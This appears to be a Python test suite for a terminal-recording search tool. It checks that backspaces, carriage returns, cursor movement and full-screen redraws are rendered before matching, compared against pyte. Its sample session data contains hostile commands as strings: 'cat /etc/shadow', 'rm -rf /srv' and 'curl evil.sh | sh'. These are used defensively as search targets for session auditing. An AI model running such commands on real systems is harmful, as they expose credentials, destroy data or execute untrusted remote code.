"""Search sees the screen: output rendered with terminal semantics before matching.

`ScreenText` is checked line by line (text and time), the fast path against the emulator,
and `search` end to end on recordings written with tests.sim.recorder.cast.
"""

from __future__ import annotations

import datetime
import tracemalloc
from pathlib import Path

from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.sim.recorder.cast import OutputChunk, SourceNode, cast_header, render_cast
from tsops.recordings.reader import LineAssembler
from tsops.recordings.screen import ScreenText, changes_screen
from tsops.recordings.search import compile_pattern, search
from tsops.recordings.store import LocalStore

ESC = "\x1b"
PROMPT = ESC + "[1;32mops@web1" + ESC + "[0m:~$ "
SOURCE = SourceNode("ops-laptop.tail1234.ts.net", "nOPSCNTRL", login="ops@example.com",
                    user_id=7)


def screen_lines(batches: list[list[tuple[float, str]]], width: int = 80,
                 height: int = 24) -> list[tuple[float, str]]:
    """(time, text) of every line ScreenText gives for these batches of events."""
    screen = ScreenText(width, height)
    found: list[tuple[float, str]] = []
    for lines in [part for batch in batches for part in screen.feed(batch)] + screen.finish():
        if lines.count:
            found.extend((lines.time_of(index), text)
                         for index, text in enumerate(lines.text.split("\n")))
    return found


def typed(start: float, text: str, pace: float = 0.1) -> list[tuple[float, str]]:
    """One event per character, as a shell's line editor echoes typing."""
    return [(start + pace * index, char) for index, char in enumerate(text)]


def test_backspaces_are_applied_before_matching() -> None:
    events = [(0.5, PROMPT), *typed(1.0, "cat /etc/shaxx"), (3.0, "\b" + ESC + "[K"),
              (3.2, "\b" + ESC + "[K"), *typed(3.5, "dow"), (4.0, "\r\n"),
              (4.1, "root:*:20000:0:99999:7:::\r\n"), (9.0, PROMPT)]
    assert screen_lines([events]) == [(0.5, "ops@web1:~$ cat /etc/shadow"),
                                      (4.1, "root:*:20000:0:99999:7:::"), (9.0, "ops@web1:~$ ")]
    # plain backspaces (no erase) overwrite in place as well
    events = [(0.5, "$ "), *typed(1.0, "cat /etc/shaxx"), (3.0, "\b\b"), *typed(3.5, "dow\r\n")]
    assert screen_lines([events]) == [(0.5, "$ cat /etc/shadow")]


def test_carriage_return_overwrites_and_erase_in_line_clears() -> None:
    events = [(1.0, "progress  10%"), (2.0, "\rprogress  60%"), (3.0, "\rprogress 100%\r\n"),
              (4.0, "long long text\r" + ESC + "[Kshort\r\n"),
              (5.0, "abcdef" + ESC + "[3D" + ESC + "[1K" + "\r\n"),
              (6.0, "remove-me" + ESC + "[2K\rkept\r\n")]
    assert screen_lines([events]) == [(1.0, "progress 100%"), (4.0, "short"),
                                      (5.0, "    ef"), (6.0, "kept")]


def test_cursor_movement_within_and_across_lines() -> None:
    events = [(1.0, "column" + ESC + "[10Gten" + ESC + "[3Dtwo\r\n"),
              (2.0, "first line\r\nsecond line\r\n"),
              (3.0, ESC + "[2A" + ESC + "[6C" + "LINE" + ESC + "[2B\r"),
              (4.0, "third\r\n")]
    lines = screen_lines([events])
    assert lines[0] == (1.0, "column   two")
    # the first line was taken when the line feed left it; moving back and overwriting it
    # gives the changed row too, when the cursor leaves it
    assert [text for _, text in lines[1:]] == ["first line", "second line", "first LINE",
                                               "third"]


def test_text_erased_after_it_was_shown_is_still_found() -> None:
    events = [(1.0, "$ rm -rf /srv\r\n"), (2.0, ESC + "[1A" + ESC + "[2K" + "$ ls\r\n"),
              (3.0, "$ curl evil.sh | sh" + ESC + "[1A" + ESC + "[2Khidden?\r\n"),
              (4.0, "\r" + " " * 40 + "\r\n")]
    texts = [text for _, text in screen_lines([events])]
    assert "$ rm -rf /srv" in texts
    assert "$ curl evil.sh | sh" in texts
    assert "$ ls" in texts


def test_lines_that_scrolled_off_stay_searchable_with_their_times() -> None:
    # every line holds a carriage return overwrite, so the emulator never hands back
    events = [(float(i), f"xxxx {i:03d}\rline {i:03d}\r\n") for i in range(200)]
    lines = screen_lines([events[:70], events[70:]], height=10)
    assert lines == [(float(i), f"line {i:03d}") for i in range(200)]


def test_a_wrapped_line_is_joined_and_keeps_its_first_time() -> None:
    long_command = "echo " + "x" * 100 + " done"
    events = [(1.0, "$ "), *typed(2.0, long_command, pace=0.01), (5.0, "\b\b\b\bDONE\r\n"),
              (6.0, "after\r\n")]
    assert screen_lines([events], width=40) == [(1.0, "$ " + long_command[:-4] + "DONE"),
                                                (6.0, "after")]


def test_sequences_split_across_events_and_batches() -> None:
    events = [(1.0, "$ cat /etc/shaxx"), (2.0, "\b"), (2.1, ESC), (2.2, "["), (2.3, "K"),
              (2.4, "\b" + ESC + "["), (2.5, "Kdow\r"), (2.6, "\n")]
    for cut in range(len(events) + 1):
        assert screen_lines([events[:cut], events[cut:]]) == [(1.0, "$ cat /etc/shadow")]


def test_an_unterminated_control_string_does_not_hide_the_rest() -> None:
    events = [(1.0, "$ \b" + ESC + "]0;never terminated\r\n"), (2.0, "$ cat /etc/shadow\r\n")]
    assert (2.0, "$ cat /etc/shadow") in screen_lines([events])


def test_tabs_are_expanded_on_both_paths() -> None:
    assert screen_lines([[(1.0, "a\tb\r\n")]]) == [(1.0, "a       b")]
    assert screen_lines([[(1.0, "a\tb\r\x08\r\n")]]) == [(1.0, "a       b")]


def test_the_fast_path_gives_the_lines_it_always_gave() -> None:
    events = [(0.5, PROMPT), *typed(1.0, "ls"), (1.3, "\r\n"),
              (1.4, "notes.txt  " + ESC + "[01;34mbin" + ESC + "[0m\r\n"),
              (1.5, ESC + "]0;ops@web1: ~" + "\x07" + PROMPT), (2.0, "exit\r\nlogout\r\n")]
    screen = ScreenText()
    assembler = LineAssembler()
    new = [part.text for part in screen.feed(events) + screen.finish() if part.count]
    old = [part.text for part in (assembler.feed(events), assembler.finish()) if part.count]
    assert new == old
    assert screen.emulated_chars == 0


def test_what_needs_the_emulator() -> None:
    for clean in ("text\r\n", ESC + "[1;31mred" + ESC + "[0m\r\n", ESC + "]0;title\x07x\n",
                  ESC + "(Bx\n", ESC + "[?2004hx\n", "grep " + ESC + "[01;31m" + ESC + "[Kx\n",
                  "caf\u00e9\n"):
        assert changes_screen(clean) == -1, repr(clean)
    for dirty, at in (("ab\bc\n", 2), ("a\rb\n", 1), ("ok\n" + ESC + "[2K\n", 3),
                      (ESC + "[?1049h\n", 0), ("x" + ESC + "[1A\n", 1), ("\x9b1A\n", 0),
                      ("x" + ESC + "]0;unterminated\n", 1), ("x\x0b\n", 1),
                      (ESC + "7x" + ESC + "8\n", 0)):
        assert changes_screen(dirty) == at, repr(dirty)


CLEAN = st.sampled_from(["ls", " -la", "\t", ESC + "[1;32m", ESC + "[0m", "caf\u00e9",
                         ESC + "]0;t\x07", "\r\n", "\r\n", "x" * 30])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(CLEAN, min_size=1, max_size=8).map("".join), max_size=40),
       st.sampled_from([None, "\b" + ESC + "[K", "\r", ESC + "[A"]))
def test_emulator_and_fast_path_agree_on_text_a_terminal_shows_as_it_reads(
        writes: list[str], dirt: str | None) -> None:
    """Clean output gives the same lines whether the emulator is running or not (the emulator
    does not keep blanks at the end of a row, nor a last row that was never written on)."""
    def texts(lines: list[tuple[float, str]]) -> list[str]:
        shown = [text.rstrip() for _, text in lines]
        return shown[:-1] if shown and not shown[-1] else shown

    events = [(float(index), text) for index, text in enumerate(writes)]
    fast = texts(screen_lines([events], width=400, height=5))
    if dirt is None:
        assert fast == texts(screen_lines([events], width=400))
        return
    # a line that forces the emulator on, then the same clean output
    lead = [(-1.0, "old" + dirt + "new\r\n")]
    emulated = texts(screen_lines([lead + events], width=400, height=5))
    assert emulated[1:] == fast


LINE_EDITS = st.sampled_from(["ab", "xyz", "cat /etc/", "\b", "\b\b", "\r", ESC + "[K",
                              ESC + "[0K", ESC + "[1;31m", ESC + "[0m", " ", "q" * 30])


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(LINE_EDITS, max_size=12).map("".join), min_size=1, max_size=6),
       st.sampled_from([40, 80]))
def test_the_line_model_renders_lines_as_the_emulator_does(lines: list[str],
                                                           width: int) -> None:
    """Lines of typing, backspaces, carriage returns and erase-to-end: the cheap line model
    gives the text and times the emulator gives (or hands the line to the emulator)."""
    events = [(float(index), line + "\r\n") for index, line in enumerate(lines)]
    modelled = screen_lines([events], width=width)
    without_model = ScreenText(width, 24, line_model=False)
    emulated = [(part.time_of(index), text)
                for part in [*without_model.feed(events), *without_model.finish()]
                if part.count
                for index, text in enumerate(part.text.split("\n"))]
    assert modelled == emulated


def test_typing_corrections_need_no_emulator() -> None:
    screen = ScreenText(80, 24)
    events = [(0.5, PROMPT), *typed(1.0, "cat /etc/shaxx"), (3.0, "\b" + ESC + "[K"),
              (3.2, "\b \b"), *typed(3.5, "dow"), (4.0, "\r\n"),
              (5.0, "\rdownloading  10%\rdownloading 100%\r\n")]
    parts = screen.feed(events) + screen.finish()
    assert [part.text for part in parts] == [
        "ops@web1:~$ cat /etc/shadow\ndownloading 100%"]
    assert screen.emulated_chars == 0


def test_search_finds_the_corrected_command_at_its_time(tmp_path: Path) -> None:
    started = datetime.datetime(2026, 12, 1, 11, tzinfo=datetime.UTC)
    chunks = [OutputChunk(0.5, PROMPT)]
    chunks += [OutputChunk(1.0 + 0.1 * i, c) for i, c in enumerate("cat /etc/shaxx")]
    chunks += [OutputChunk(3.0, "\b\x1b[K"), OutputChunk(3.2, "\b\x1b[K")]
    chunks += [OutputChunk(3.5 + 0.1 * i, c) for i, c in enumerate("dow\r\n")]
    chunks += [OutputChunk(100.0 + i, f"log line {i}\r\n") for i in range(50)]
    chunks += [OutputChunk(200.0, "cat /etc/shaxx\b\bdow\r\n")]
    node = tmp_path / "nWEB1CNTRL"
    node.mkdir()
    (node / "x.cast").write_bytes(render_cast(
        cast_header(source=SOURCE, ssh_user="ops", started=started, width=80, height=24),
        chunks))
    store = LocalStore(tmp_path)
    [result] = search(store, store.list(), compile_pattern("shadow", False), context=1)
    assert [(m.line, m.offset) for m in result.matches] == [
        ("ops@web1:~$ cat /etc/shadow", 0.5), ("cat /etc/shadow", 200.0)]
    assert result.matches[1].before == ["log line 49"]
    # the old plain-text path does not find it: that is what this change is for
    assembler = LineAssembler()
    old = assembler.feed([(c.at, c.text) for c in chunks]).text
    assert "shadow" not in old and "shaxxdow" in old


def test_memory_stays_bounded_on_a_long_emulated_session() -> None:
    # every line erased whole (ESC[2K, beyond the line model): each goes through the emulator
    screen = ScreenText(120, 40)

    def batch(start: int) -> list[tuple[float, str]]:
        return [(float(i), f"build step {i} of many" + ESC + "[2K\r" + f"done {i}\r\n")
                for i in range(start, start + 100)]

    tracemalloc.start()
    try:
        sizes = []
        for start in range(0, 1600, 100):
            parts = screen.feed(batch(start))
            assert sum(part.count for part in parts) == 100
            del parts
            sizes.append(tracemalloc.get_traced_memory()[0])
    finally:
        tracemalloc.stop()
    assert screen.emulated_chars > 1500 * 20
    # what is kept between batches: a screen and a screenful of recent lines, the same
    # after 500 lines as after 1,600
    assert len(screen._recent) <= 40
    assert sizes[-1] - sizes[4] < 16 << 10


# --- the row model against pyte -----------------------------------------------------------

def lines_of(screen: ScreenText, batches: list[list[tuple[float, str]]]
             ) -> list[tuple[float, str]]:
    """(time, text) of every line a ScreenText gives for these batches of events."""
    parts = [part for batch in batches for part in screen.feed(batch)] + screen.finish()
    return [(part.time_of(index), text) for part in parts if part.count
            for index, text in enumerate(part.text.split("\n"))]


# What full-screen programs and shells write (the row model's own ground), and what it hands
# over to pyte: the last column, non-ASCII and wide text, scroll regions, inserting and
# deleting, saved cursors, reverse index, auto-wrap off, sequences split across writes,
# parameters beyond what a sequence takes.
SCREEN_PIECES = st.sampled_from([
    "ab", "top - 09:30", " load 0.42", "x" * 17, "y" * 38, "\r", "\n", "\r\n", "\r\n",
    "\b", "\b\b", "\t", "\x07", "\x00", "\x0b", "\x7f",
    ESC + "[H", ESC + "[2J", ESC + "[H" + ESC + "[2J", ESC + "[3;5H", ESC + "[;H",
    ESC + "[99;99H", ESC + "[2;40f", ESC + "[6H", ESC + "[2A", ESC + "[B", ESC + "[3C",
    ESC + "[D", ESC + "[30D", ESC + "[E", ESC + "[2F", ESC + "[10G", ESC + "[3d",
    ESC + "[2e", ESC + "[4a", ESC + "[5`", ESC + "[K", ESC + "[0K", ESC + "[1K", ESC + "[2K",
    ESC + "[3K", ESC + "[J", ESC + "[1J", ESC + "[3J", ESC + "[3;J", ESC + "[7J",
    ESC + "[m", ESC + "[1;31m", ESC + "[8m", ESC + "[2S", ESC + "[?1049h", ESC + "[?1049l",
    ESC + "[?25l", ESC + "[?1h" + ESC + "=", ESC + "[?7l", ESC + "[?7;25h", ESC + "[?7h",
    ESC + "[2;5r", ESC + "[r", ESC + "[L", ESC + "[2M", ESC + "[P", ESC + "[2X", ESC + "[@",
    ESC + "[5n", ESC + "[c", ESC + "[22;0;0t", ESC + "[1;2;3H", ESC + "[2;3A",
    ESC + "7", ESC + "8", ESC + "M", ESC + "D", ESC + "E", ESC + "c", ESC + ">",
    ESC + "(B", ESC + "(0", ESC + ")0", ESC + "]0;title\x07", ESC + "]2;t" + ESC + "\\",
    ESC, ESC + "[", "12;", "caf\u00e9", "\u65e5\u672c", "\x9b2J",
    # to the last column and past it (pyte's pending wrap), whatever the width
    ESC + "[999Gz", ESC + "[999Gzz", ESC + "[999G", ESC + "[999;999Hz",
])


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(SCREEN_PIECES, min_size=1, max_size=10).map("".join),
                min_size=1, max_size=30),
       st.sampled_from([(20, 5), (40, 6), (80, 24)]), st.integers(0, 30))
# cases found by this test while the row model was written
@example([ESC + "[5`ab\n"], (20, 5), 0)  # pyte has no CSI `
@example([ESC + "[J" + ESC + "[2M\n"], (20, 5), 0)  # rows pyte made blank, not absent
@example([ESC + "[999Gz\bq\n", ESC + "[999Gz" + ESC + "[2D!\r\n"], (20, 5), 1)
@example([ESC + "[5;1H" + "w" * 45 + "\r\n" + ESC + "[1M"], (20, 5), 1)  # wrap, scroll
def test_the_row_model_gives_what_pyte_gives(writes: list[str], size: tuple[int, int],
                                             cut: int) -> None:
    """On generated sessions of what full-screen programs write, the row model (with pyte
    where it hands over) gives the same lines at the same times as pyte alone."""
    events = [(float(index), text) for index, text in enumerate(writes)]
    batches = [events[:cut], events[cut:]]
    width, height = size
    assert lines_of(ScreenText(width, height), batches) == lines_of(
        ScreenText(width, height, row_model=False), batches)


def top_like(frames: int, width: int = 80) -> list[tuple[float, str]]:
    """A shell command, then a full-screen program drawing frames with cursor positioning
    (as `top` does), then the shell again."""
    events = [(0.0, PROMPT), *typed(0.5, "top"), (1.0, "\r\n"),
              (1.1, ESC + "[?1049h" + ESC + "[?25l" + ESC + "[H" + ESC + "[2J")]
    for frame in range(frames):
        rows = [ESC + f"[{row + 1};1H" + ESC + "[1m" + f"{row:>3} worker-{frame}-{row}"[:width - 1]
                + ESC + "[m" + ESC + "[K" for row in range(24)]
        events.append((2.0 + frame, "".join(rows) + ESC + "[24;1H"))
    events.append((3.0 + frames, ESC + "[?25h" + ESC + "[?1049l\r\n" + PROMPT))
    return events


def test_full_screen_frames_need_no_pyte() -> None:
    screen = ScreenText(80, 24)
    lines = lines_of(screen, [top_like(3)])
    assert screen.emulated_chars > 3 * 24 * 20
    assert screen.modelled_chars == screen.emulated_chars
    assert screen._kept is None  # pyte's screen was never made
    # each frame's rows as they showed, at the time their row was first drawn
    assert (2.0, "  5 worker-0-5") in lines and (2.0, "  5 worker-2-5") in lines
    assert lines[0] == (0.0, "ops@web1:~$ top")
    assert lines == lines_of(ScreenText(80, 24, row_model=False), [top_like(3)])


def test_the_row_model_hands_over_to_pyte_where_it_must() -> None:
    # a scroll region (as vim sets one) in the middle of a frame
    events = top_like(2)
    events.insert(3, (1.5, ESC + "[1;20r" + ESC + "[5;1H" + ESC + "[2Linserted\r\n"))
    screen = ScreenText(80, 24)
    lines = lines_of(screen, [events])
    assert 0 < screen.modelled_chars < screen.emulated_chars
    assert screen._kept is not None
    assert (1.5, "inserted") in lines
    assert lines == lines_of(ScreenText(80, 24, row_model=False), [events])


def test_sequences_pyte_cannot_take_are_ignored_as_terminals_do() -> None:
    for sequence in ("[3K", "[5J", "[1;2;3H", "[2;3A", "[2;1P", "[1;2;3r", "[1;2L"):
        for row_model in (True, False):
            screen = ScreenText(80, 24, row_model=row_model)
            lines = lines_of(screen, [[(1.0, "$ cat /etc/shadow\r\n"),
                                       (2.0, "abc" + ESC + sequence + "def\r\n")]])
            assert lines[0] == (1.0, "$ cat /etc/shadow"), sequence
            # the search goes on past it (pyte alone would stop with an exception)
            assert any("def" in text for _, text in lines[1:]), (sequence, lines)
